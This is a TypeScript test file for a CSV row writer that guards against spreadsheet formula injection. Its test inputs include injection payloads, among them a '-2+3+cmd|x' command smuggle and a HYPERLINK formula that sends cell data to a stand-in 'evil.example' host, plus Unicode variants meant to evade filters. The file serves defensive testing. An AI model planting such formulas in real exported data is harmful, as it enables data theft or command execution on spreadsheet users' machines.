import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../../src/terminal/csv.ts';

const cellsOf = (line: string): string[] => parse(line)[0] ?? [];

test('a row ends with CRLF, and only what needs quotes has them', () => {
  expect(csvLine(['a', null, undefined, 4, -0.5, true, 'b,c', 'say "hi"', 'two\nlines'])).toBe(
    'a,,,4,-0.5,true,"b,c","say ""hi""","two\nlines"\r\n',
  );
});

test.each([
  '=1+1',
  '+1 202 555 0142',
  '-2+3+cmd|x',
  '@SUM(A1)',
  '  =1',
  '\u00A0=1',
  '\n=1',
  '\u200B=1',
  '\u202E=1',
  '\uFEFF=1',
  '\u0000=1',
  '\u001B[31m=1',
  '\t=1',
  '\tname',
  '\rname',
  '\uFF1D1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF201',
  '\uFE661',
  '\u22121',
  "'=1",
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
])('%j is no formula any more', (text) => {
  const line = csvLine([text, 'x']);
  expect(line).toMatch(/^"'/);
  expect(cellsOf(line)[0]).toMatch(/^'/);
});

test.each(['plain', "it's", "'quoted'", 'a=b', '5 - 3', '3+4', 'kim@example.com', ''])(
  '%j stays as it is',
  (text) => {
    expect(cellsOf(csvLine([text, 'x']))[0]).toBe(text);
  },
);

test('characters that a terminal or a loader chokes on are gone', () => {
  expect(csvLine(['a\u0000b', 'c\u001B[2Jd', 'e\r\nf', 'g\th', 'i\u0085j', '\uD800'])).toBe(
    'ab,cd,"e\nf",g h,ij,\uFFFD\r\n',
  );
});

test('every row can be read by another reader and given back, whatever it holds', () => {
  // Texts without these characters come back exactly.
  const removed =
    /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2028\u2029\u2066-\u2069\uFEFF]/;
  const text = fc
    .oneof(fc.string({ unit: 'grapheme' }), fc.stringMatching(/^['=+@ ;,"\n-]{0,6}$/))
    .filter((one) => !removed.test(one));
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 6 }), (texts) => {
      const cells = cellsOf(csvLine(texts));
      expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
      expect(cells.map((cell) => (/^'+\s*[=+\-@]/.test(cell) ? cell.slice(1) : cell))).toEqual(texts);
    }),
  );
});
